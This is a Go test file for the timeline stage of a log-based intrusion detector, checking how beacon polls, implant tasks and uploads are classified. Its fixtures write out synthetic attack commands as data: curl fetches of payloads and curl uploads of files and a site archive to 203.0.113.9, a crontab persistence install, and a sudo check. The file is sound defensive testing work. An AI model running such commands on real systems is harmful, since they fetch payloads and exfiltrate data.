package timeline

import (
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// TestPlacePollsFirstFetches: a script beacon's first fetch was a download
// to the engine (the repetition had not shown yet); over the whole log its
// parent fetched the same server again and again, so the first fetch is
// the poll too. A one-off fetch of another parent stays where it was.
func TestPlacePollsFirstFetches(t *testing.T) {
	tree := parser.NewTree()
	at := time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)
	exec := func(s, pid, ppid int, args ...string) *parser.Event {
		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, Source: parser.FormatAuditd,
			Time: at.Add(time.Duration(s) * time.Second), PID: pid, PPID: ppid, UID: parser.NewID(33), EUID: parser.NewID(33),
			Exe: "/usr/bin/" + args[0], Args: args}
		tree.Observe(ev)
		return ev
	}
	exec(0, 300, 1, "dash", "sh", "/var/tmp/.b.sh")
	first := exec(1, 301, 300, "curl", "curl", "-fsS", "-o", "/var/tmp/.t", "http://203.0.113.9:8000/t")
	exec(4, 302, 300, "curl", "curl", "-fsS", "-o", "/var/tmp/.t", "http://203.0.113.9:8000/t")
	exec(7, 303, 300, "curl", "curl", "-fsS", "-o", "/var/tmp/.t", "http://203.0.113.9:8000/t")
	reply := exec(2, 304, 300, "curl", "curl", "-fsS", "--data-binary", "@/var/tmp/.o", "http://203.0.113.9:8000/o")
	loot := exec(3, 305, 300, "curl", "curl", "-fsS", "--data-binary", "@/var/tmp/site.tgz", "http://203.0.113.9:8000/o")
	replyConn := &parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, Source: parser.FormatAuditd, Time: at.Add(2 * time.Second),
		PID: 304, PPID: 300, UID: parser.NewID(33), Exe: "/usr/bin/curl", Peer: parser.Addr{Family: "inet", IP: "203.0.113.9", Port: 8000}}
	tree.Observe(replyConn)
	exec(8, 400, 1, "dash", "sh", "-c", "x")
	other := exec(9, 401, 400, "curl", "curl", "-fsS", "-o", "/tmp/p.zip", "http://203.0.113.9:8000/p.zip")
	fs := []*detect.Finding{
		{RuleID: "ingress-tool-download", Stage: detect.StageSuspiciousSpawn, Event: first, Process: first.Proc, Time: first.Time},
		{RuleID: "ingress-tool-download", Stage: detect.StageSuspiciousSpawn, Event: other, Process: other.Proc, Time: other.Time},
		{RuleID: "exfil-upload", Title: "Data Uploaded Out", Stage: detect.StageExfiltrationImpact, Event: reply, Process: reply.Proc, Time: reply.Time},
		{RuleID: "exfil-upload", Title: "Data Uploaded Out", Stage: detect.StageExfiltrationImpact, Event: loot, Process: loot.Proc, Time: loot.Time},
		{RuleID: "web-outbound-connect", Stage: detect.StageExfiltrationImpact, Event: replyConn, Process: replyConn.Proc, Time: replyConn.Time},
	}
	all := append([]*detect.Finding(nil), fs...)
	got := (&Builder{}).placePolls(all, fs, tree)
	if got[0].Stage != detect.StageCommandAndControl {
		t.Errorf("the beacon's first fetch: stage %v, want 7 (%s)", got[0].Stage, got[0].Reason)
	}
	if got[1].Stage != detect.StageSuspiciousSpawn {
		t.Errorf("a one-off fetch: stage %v, want 4", got[1].Stage)
	}
	if got[2].Stage != detect.StageCommandAndControl || got[2].Title != "Task Output Returned On The Channel" {
		t.Errorf("the beacon's first reply: stage %v %q, want the reply on 7", got[2].Stage, got[2].Title)
	}
	if got[4].Stage != detect.StageCommandAndControl {
		t.Errorf("the reply's connection: stage %v, want 7", got[4].Stage)
	}
	if got[3].Stage != detect.StageExfiltrationImpact {
		t.Errorf("an archive sent to the beacon's server: stage %v, want 8 (exfiltration)", got[3].Stage)
	}
}

// TestPlaceBeaconTasks: a program that connects to one server again and
// again runs tasks; over the whole log they are the beacon's (stage 7).
// A web server's connections to its database make no beacon of it; a
// task's own effect keeps its stage; root gained under the beacon stays
// the escalation.
func TestPlaceBeaconTasks(t *testing.T) {
	b, err := NewBuilder(Options{WebServers: []string{"php-fpm8.2"}})
	if err != nil {
		t.Fatal(err)
	}
	tree := parser.NewTree()
	at := time.Date(2026, 12, 5, 0, 27, 33, 0, time.UTC)
	uid := func(n uint32) parser.ID { return parser.NewID(n) }
	exec := func(ms, pid, ppid int, euid uint32, exe string, args ...string) *parser.Event {
		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, Source: parser.FormatAuditd,
			Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid, UID: uid(euid), EUID: uid(euid), Exe: exe, Args: args}
		tree.Observe(ev)
		b.Observe(ev)
		return ev
	}
	var firstPoll *parser.Event
	connect := func(ms, pid, ppid int, exe, ip string, port int) {
		ev := &parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, Source: parser.FormatAuditd,
			Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid, UID: uid(2061), Exe: exe,
			Peer: parser.Addr{Family: "inet", IP: ip, Port: port}}
		tree.Observe(ev)
		b.Observe(ev)
		if firstPoll == nil && pid == 500 {
			firstPoll = ev
		}
	}
	exec(0, 500, 1, 2061, "/srv/app/.cache/gc", "/srv/app/.cache/gc", "-u", "http://203.0.113.9:8447")
	exec(0, 600, 1, 33, "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	for i := 0; i < 8; i++ {
		connect(100+2000*i, 500, 1, "/srv/app/.cache/gc", "203.0.113.9", 8447)
		connect(150+2000*i, 600, 1, "/usr/sbin/php-fpm8.2", "127.0.0.1", 3306)
	}
	task := exec(2500, 501, 500, 2061, "/usr/bin/dash", "sh", "-c", "id; ps -ef")
	install := exec(4500, 502, 500, 2061, "/usr/bin/dash", "sh", "-c", "crontab /tmp/c")
	rooted := exec(6500, 503, 500, 0, "/usr/bin/sudo", "sudo", "-n", "id")
	shell := exec(8500, 601, 600, 33, "/usr/bin/dash", "sh", "-c", "id")
	once := exec(9000, 700, 1, 2061, "/usr/bin/dash", "sh", "-c", "id")
	fs := []*detect.Finding{
		{RuleID: "r", Stage: detect.StageCommandExecution, Event: task, Process: task.Proc, Time: task.Time},
		{RuleID: "r", Stage: detect.StagePersistence, Event: install, Process: install.Proc, Time: install.Time},
		{RuleID: "r", Stage: detect.StageSuspiciousSpawn, Event: rooted, Process: rooted.Proc, Time: rooted.Time},
		{RuleID: "r", Stage: detect.StageCommandExecution, Event: shell, Process: shell.Proc, Time: shell.Time},
		{RuleID: "r", Stage: detect.StageCommandExecution, Event: once, Process: once.Proc, Time: once.Time},
		// the beacon's first connection, judged a one-off download then
		{RuleID: "r", Stage: detect.StageSuspiciousSpawn, Event: firstPoll, Process: firstPoll.Proc, Time: firstPoll.Time},
	}
	all := append([]*detect.Finding(nil), fs...)
	got := b.placeBeaconTasks(all, fs)
	want := []detect.Stage{detect.StageCommandAndControl, detect.StagePersistence, detect.StageSuspiciousSpawn,
		detect.StageCommandExecution, detect.StageCommandExecution, detect.StageCommandAndControl}
	for i, w := range want {
		if got[i].Stage != w {
			t.Errorf("finding %d (%s): stage %v, want %v (%s)", i, got[i].Event.Args, got[i].Stage, w, got[i].Reason)
		}
	}
	if !strings.Contains(got[0].Reason, "connected to 203.0.113.9:8447 8 times") {
		t.Errorf("the task's reason does not give the poll: %s", got[0].Reason)
	}
}

// TestBeaconTasksOfScriptLoop: a planted shell script's loop sends each
// task's answer from a `{ …; }` group it forks: the group starts a curl per
// chunk and execs the last curl itself, so the chunks' parent is a process
// whose only exec came after them (shop-compare). Those connects are the
// loop's, and the loop's own shell children are its tasks (stage 7).
func TestBeaconTasksOfScriptLoop(t *testing.T) {
	b, err := NewBuilder(Options{WebServers: []string{"php-fpm8.2"}})
	if err != nil {
		t.Fatal(err)
	}
	tree := parser.NewTree()
	at := time.Date(2026, 12, 7, 0, 1, 2, 0, time.UTC)
	exec := func(ms, pid, ppid int, exe string, args ...string) *parser.Event {
		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, Source: parser.FormatAuditd,
			Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid, UID: parser.NewID(0), EUID: parser.NewID(0), Exe: exe, Args: args}
		tree.Observe(ev)
		b.Observe(ev)
		return ev
	}
	connect := func(ms, pid, ppid int) {
		ev := &parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, Source: parser.FormatAuditd,
			Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid, UID: parser.NewID(0), Exe: "/usr/bin/curl",
			Peer: parser.Addr{Family: "inet", IP: "127.0.0.1", Port: 3389}}
		tree.Observe(ev)
		b.Observe(ev)
	}
	exec(0, 500, 1, "/usr/bin/dash", "/bin/sh", "/usr/lib/php/php-cache-warm.d/worker")
	var tasks []*parser.Event
	for k := 0; k < 3; k++ { // three tasks, 6 s apart, each answered in 4 chunks
		base := 1000 + 6000*k
		tasks = append(tasks, exec(base, 510+100*k, 500, "/usr/bin/dash", "sh", "-c", "id; hostname"))
		group := 520 + 100*k
		for c := 0; c < 4; c++ {
			pid := 530 + 100*k + c
			exec(base+100+50*c, pid, group, "/usr/bin/curl", "curl", "-s", "ldap://127.0.0.1:3389/cn="+string(rune('a'+c)))
			connect(base+110+50*c, pid, group)
		}
		exec(base+400, group, 500, "/usr/bin/curl", "curl", "-s", "ldap://127.0.0.1:3389/cn=end")
		connect(base+410, group, 500)
	}
	fs := []*detect.Finding{}
	for _, ev := range tasks {
		fs = append(fs, &detect.Finding{RuleID: "web-server-exploitation", Title: "Web Server Exploitation", Stage: detect.StageCommandExecution, Event: ev, Process: ev.Proc, Time: ev.Time})
	}
	got := b.placeBeaconTasks(append([]*detect.Finding(nil), fs...), fs)
	for i, f := range got {
		if f.Stage != detect.StageCommandAndControl || !strings.Contains(f.Reason, "started clients that connected to 127.0.0.1:3389") {
			t.Errorf("task %d: stage %v, want 7, with the clients' connects said (%s)", i, f.Stage, f.Reason)
		}
		if f.Title != "Task Run By An Implant" {
			t.Errorf("task %d titled %q: the web server's rule matched through the adoption, the act is the beacon's task", i, f.Title)
		}
	}
}
